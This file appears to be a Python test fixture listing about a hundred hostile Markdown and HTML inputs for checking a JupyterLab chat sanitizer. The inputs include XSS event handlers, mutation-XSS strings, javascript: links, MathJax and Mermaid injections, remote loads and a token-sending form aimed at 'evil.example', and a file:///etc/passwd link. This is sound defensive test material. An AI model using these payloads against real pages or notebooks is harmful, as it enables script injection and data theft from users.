"""Markdown that wants more than to be read: each would call `canary`, or tell `evil.example`."""

# ruff: noqa: E501 - a payload is read best in one line.

from __future__ import annotations

_SVG = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iY2FuYXJ5KCkiLz4="
_PAGE = "data:text/html,<script>opener.canary()</script>"

HOSTILE: dict[str, str] = {
    # scripts and handlers
    "script": "<script>canary()</script>",
    "script from elsewhere": '<script src="https://evil.example/a.js"></script>',
    "script in a broken tag": "<scr<script>ipt>canary()</scr</script>ipt>",
    "script in upper case": "<SCRIPT/SRC=//evil.example/a.js></SCRIPT>",
    "module": '<script type="module">import "https://evil.example/a.js"</script>',
    "image handler": "<img src=x onerror=canary()>",
    "image handler without blanks": "<img/src=x/onerror=canary()>",
    "body handler": "<body onload=canary()>",
    "details handler": "<details open ontoggle=canary()>x</details>",
    "focus handler": "<a autofocus tabindex=1 onfocus=canary()>x</a>",
    "animation handler": "<p style=animation-name:x onanimationstart=canary()>x</p>",
    "media handler": "<video onloadstart=canary() src=data:,x></video>",
    "source handler": "<audio><source onerror=canary() src=data:,x></audio>",
    "marquee": "<marquee onstart=canary()>x</marquee>",
    "popover": "<button popovertarget=x>a</button><b id=x popover onbeforetoggle=canary()>x</b>",
    # other documents
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe with a page": '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
    "iframe with a script link": '<iframe src="javascript:parent.canary()"></iframe>',
    "object": '<object data="https://evil.example/a.swf"></object>',
    "embed": '<embed src="https://evil.example/a.swf">',
    "frameset": '<frameset><frame src="https://evil.example/"></frameset>',
    "portal": '<portal src="https://evil.example/"></portal>',
    # svg and mathml
    "svg handler": "<svg onload=canary()></svg>",
    "svg script": "<svg><script>canary()</script></svg>",
    "svg use": '<svg><use href="https://evil.example/a.svg#x"/></svg>',
    "svg image": '<svg><image href="https://evil.example/a.png"/></svg>',
    "svg link animated": (
        '<svg><a><animate attributeName=href values="javascript:canary()"/>'
        "<text x=20 y=20>x</text></a></svg>"
    ),
    "svg foreign": "<svg><foreignObject><img src=x onerror=canary()></foreignObject></svg>",
    "svg style": "<svg><style><img src=x onerror=canary()></style></svg>",
    "mathml": '<math><mtext><img src=x onerror="canary()"></mtext></math>',
    "mathml link": '<math href="javascript:canary()"><mi>x</mi></math>',
    "mutation": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=canary()&gt;">'
    ),
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=canary()>">',
    "template": "<template><img src=x onerror=canary()></template>",
    "shadow root": '<div><template shadowrootmode="open"><img src=x onerror=canary()></template></div>',
    # links
    "script link": "[x](javascript:canary())",
    "script link in upper case": "[x](JaVaScRiPt:canary())",
    "script link with entities": "[x](&#106;avascript&colon;canary())",
    "script link with a tab": '<a href="java\tscript:canary()">x</a>',
    "script link with a null": '<a href="\x01javascript:canary()">x</a>',
    "script link by reference": "[x][r]\n\n[r]: javascript:canary()",
    "script autolink": "<javascript:canary()>",
    "script link of an image": "[![x](x.png)](javascript:canary())",
    "page link": f"[x]({_PAGE.replace(' ', '%20')})",
    "page link in HTML": f'<a href="{_PAGE}">x</a>',
    "visual basic link": "[x](vbscript:canary())",
    "blob link": "[x](blob:https://evil.example/1)",
    "file link": "[x](file:///etc/passwd)",
    "opener": '<a href="https://evil.example/" target="_top" rel="opener">x</a>',
    "named window": '<a href="https://evil.example/" target="_self">x</a>',
    "download": '<a href="https://evil.example/a.exe" download ping="https://evil.example/p">x</a>',
    "image map": (
        '<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name=m>'
        '<area shape=default href="https://evil.example/"></map>'
    ),
    "logging out": "[click](/logout)\n\n![x](/logout)\n\n<img src='/logout'>",
    # remote content
    "image": "![x](https://evil.example/a.png)",
    "image without a scheme": "![x](//evil.example/a.png)",
    "image with back slashes": '<img src="\\\\evil.example\\a.png">',
    "image by reference": "![x][r]\n\n[r]: https://evil.example/a.png",
    "image set": '<img srcset="https://evil.example/a.png 1x"><picture><source srcset="//evil.example/b"></picture>',
    "image with a script": f"![x]({_SVG})",
    "image input": '<input type=image src="https://evil.example/a.png">',
    "video": '<video autoplay poster="https://evil.example/p"><source src="https://evil.example/v"></video>',
    "track": '<audio src="//evil.example/a" autoplay></audio><video><track default src="//evil.example/t"></video>',
    "background": '<table background="https://evil.example/a.png"><tr><td background="//evil.example/b">x</table>',
    # documents' heads
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": '<base href="https://evil.example/">',
    "style sheet": '<link rel=stylesheet href="https://evil.example/a.css">',
    "prefetch": '<link rel="prefetch" href="https://evil.example/"><link rel=preload as=image href="//evil.example/a">',
    "import": '<style>@import "https://evil.example/a.css"; body{display:none}</style>',
    # style
    "style address": '<p style="background:url(https://evil.example/a.png)">x</p>',
    "style address escaped": '<p style="background:\\75 rl(//evil.example/a.png)">x</p>',
    "style list": "<ul style=\"list-style: url('https://evil.example/a.png')\"><li>x</ul>",
    "style image": "<p style=\"background-image: image-set('https://evil.example/a.png' 1x)\">x</p>",
    "overlay": '<div style="position:absolute;top:0;left:0;width:9999px;height:9999px;z-index:9999">x</div>',
    "fixed": '<div style="position:fixed;inset:0">x</div>',
    "dialog by class": '<div class="jp-Dialog lm-Widget"><div class="lm-Menu">x</div></div>',
    "ours by class": '<div class="jp-StopChat-button jp-StopChat-codeTools"><b data-action="replace">x</b></div>',
    "known id": '<div id="jupyterlab-splash"><img id="jupyter-config-data" name="canary"></div>',
    # forms and commands
    "form": '<form action="https://evil.example/"><input name=token><button>Go</button></form>',
    "form script": '<form action="javascript:canary()"><input type=submit autofocus></form>',
    "button outside a form": '<button form=f formaction="javascript:canary()">x</button><form id=f></form>',
    "password": "Password: <input type=password> <textarea>x</textarea> <select><option>y</select>",
    "command": '<button data-commandlinker-command="apputils:reset" data-commandlinker-args="{}">x</button>',
    # mathematics
    "math link": "$\\href{javascript:canary()}{x}$",
    "math link away": "$$\\href{https://evil.example/}{x}$$",
    "math class": "$\\class{jp-Dialog}{x}$ $\\cssId{jupyterlab-splash}{y}$",
    "math style": "$\\style{position:fixed;inset:0;background:url(https://evil.example/a)}{x}$",
    "math require": "$\\require{html}\\require{https://evil.example/a.js} x$",
    "math text": "$\\text{<img src=x onerror=canary()>}$",
    "math unclosed": "$<img src=x onerror=canary()>$ \\(<script>canary()</script>\\)",
    # diagrams
    "diagram": '```mermaid\ngraph TD; A["<img src=x onerror=canary()>"]\n```\n',
    "diagram image": "```mermaid\ngraph TD; A[\"<img src='https://evil.example/a.png'>\"]\n```\n",
    "diagram picture": '```mermaid\nflowchart TD\n  A@{ img: "https://evil.example/a.png", w: 60 }\n```\n',
    "diagram click": '```mermaid\ngraph TD; A-->B; click A href "javascript:canary()"\n```\n',
    "diagram style": (
        '```mermaid\n%%{init: {"themeCSS": "@import url(https://evil.example/a.css);"}}%%\n'
        "graph TD; A-->B\n```\n"
    ),
    "diagram fill": (
        "```mermaid\ngraph TD; A-->B\nstyle A fill:url(https://evil.example/a.svg)\n```\n"
    ),
    "diagram directive": (
        '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD; A-->B\n'
        "click A call canary()\n```\n"
    ),
    "diagram in a list": (
        "- ```mermaid\n  graph TD; A[\"<img src='//evil.example/a.png'>\"]\n  ```\n"
    ),
    # code that would leave its block
    "language": '```"><img/src=x/onerror=canary()>\nx\n```\n',
    "code": "```html\n</code></pre><img src=x onerror=canary()>\n```\n",
    "title": '[x](https://example.org "\\"><img src=x onerror=canary()>")',
    "alternative": '![x"onerror="canary()](x.png)',
    "comment": "<!--><img src=x onerror=canary()>-->",
    "character data": "<![CDATA[><img src=x onerror=canary()>]]>",
    "processing": "<?xml-stylesheet href='https://evil.example/a.css'?><!DOCTYPE x SYSTEM '//evil.example'>",
}
